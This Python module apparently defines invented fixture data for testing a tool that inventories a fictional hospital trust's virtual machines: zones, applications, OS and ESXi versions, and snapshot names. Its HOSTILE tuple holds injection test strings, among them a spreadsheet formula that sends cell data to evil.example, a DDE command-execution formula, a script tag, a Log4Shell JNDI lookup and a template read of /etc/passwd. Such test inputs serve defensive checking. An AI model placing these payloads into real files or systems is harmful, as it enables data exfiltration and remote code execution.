"""Invented names: a hospital trust, its applications, people and systems. Nobody's data."""

DOMAIN = "northmere.example"
DATACENTERS = ("DC-North", "DC-South")
RESTRICTED = ("DMZ", "RES")
ZONES = ("PROD", "RES", "DMZ", "TST", "MGT")
SHARES = {"RES": 26, "DMZ": 12, "TST": 14, "MGT": 5}  # percent; PROD is the rest
PREFIX = {"PROD": "prd", "RES": "res", "DMZ": "dmz", "TST": "tst", "MGT": "mgt"}
APPLICATIONS = {
    "PROD": ("erp", "hr", "mail", "print", "files", "intra", "sched"),
    "RES": ("pacs", "his", "lab", "pharm", "onco", "ehr"),
    "DMZ": ("web", "proxy", "portal", "vpn", "relay"),
    "TST": ("erp", "his", "portal", "build"),
    "MGT": ("vcsa", "monitor", "ntp", "patch", "jump"),
}
TIERS = ("APP", "WEB", "DB")
OWNERS = (
    "Radiology",
    "Pharmacy",
    "Laboratory",
    "Finance",
    "Human Resources",
    "Clinical Systems",
    "Patient Portal",
    "Platform Operations",
)
NOTES = (
    "",
    "",
    "Managed by automation",
    "Clinical system, see runbook RB-12",
    "Vendor support contract until 2028",
)
HOST_MODELS = (("Aldergate Systems", "AG-2200"), ("Aldergate Systems", "AG-2400"))

CURRENT_SYSTEMS = (
    "Microsoft Windows Server 2019 (64-bit)",
    "Microsoft Windows Server 2022 (64-bit)",
    "Red Hat Enterprise Linux 8 (64-bit)",
    "Red Hat Enterprise Linux 9 (64-bit)",
    "Rocky Linux 9 (64-bit)",
    "Debian GNU/Linux 13 (64-bit)",
)
ENDED_SYSTEMS = (
    "Microsoft Windows Server 2012 (64-bit)",
    "Red Hat Enterprise Linux 7 (64-bit)",
    "Red Hat Enterprise Linux 6 (64-bit)",
    "CentOS 7 (64-bit)",
)
EXTENDED_SYSTEMS = ("Debian GNU/Linux 11 (64-bit)", "Debian GNU/Linux 10 (64-bit)")
WINDOWS, LINUX = CURRENT_SYSTEMS[1], CURRENT_SYSTEMS[3]

CURRENT_ESXI = ("8.0.3", "24674464")
OTHER_ESXI = ("8.0.3", "24280767")
ENDED_ESXI = ("7.0.3", "21053776")
CURRENT_MANAGER = ("8.0.3", "24853646")
ENDED_MANAGER = ("7.0.3", "21477706")

TEMPORARY = ("{}_old", "{}-copy", "{}-test", "{}-bak", "clone-of-{}")
BACKUP_SNAPSHOT = "VEEAM BACKUP TEMPORARY SNAPSHOT"
CHANGE_SNAPSHOTS = ("before change", "pre-upgrade", "checkpoint", "quarterly")
HOSTILE = (
    '=HYPERLINK("http://evil.example/?x="&A1,"open")',
    "<script>alert(1)</script>",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+49 30 1234",
    "-2+3",
    "  leading spaces",
    'O\'Brien "quoted", comma; semicolon',
    "患者管理-本番",
    "خادم-المستشفى",
    "Übergabe größe",
    "%s {0} ${jndi:ldap://evil.example/a}",
    '#read("/etc/passwd") *bold* $x$',
)
SECRET_NOTES = ("pw: {}", "root password={}", "svc account, pwd: {}", "Passwort: {}")
